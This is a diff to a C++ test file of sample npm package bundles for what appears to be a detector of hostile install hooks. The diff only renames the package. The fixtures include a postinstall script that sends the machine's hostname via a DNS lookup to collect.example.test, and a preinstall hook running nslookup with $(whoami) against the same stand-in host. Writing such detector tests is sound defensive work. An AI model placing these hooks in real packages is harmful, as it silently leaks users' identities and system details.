@@ -42,7 +42,7 @@ constexpr Sample samples[] = {
     {.name = "an install hook asks for a name with the host in it",
      .expect = "index.js:3",
      .bundle = R"(==> package.json
-{"name": "sample", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node index.js"}}
+{"name": "widget", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node index.js"}}
 ==> index.js
 const dns = require("dns");
 const os = require("os");
@@ -51,12 +51,12 @@ dns.lookup(`${os.hostname()}.collect.example.test`, () => {});
     {.name = "a hook does the same from a shell",
      .expect = "package.json:1",
      .bundle = R"(==> package.json
-{"name": "sample", "version": "1.0.0", "scripts": {"preinstall": "nslookup $(whoami).collect.example.test"}}
+{"name": "widget", "version": "1.0.0", "scripts": {"preinstall": "nslookup $(whoami).collect.example.test"}}
 )"},
     {.name = "a resolver asks for its own host name",
      .expect = silent,
      .bundle = R"(==> package.json
-{"name": "sample", "version": "1.0.0", "main": "index.js"}
+{"name": "widget", "version": "1.0.0", "main": "index.js"}
 ==> index.js
 const dns = require("dns");
 const os = require("os");
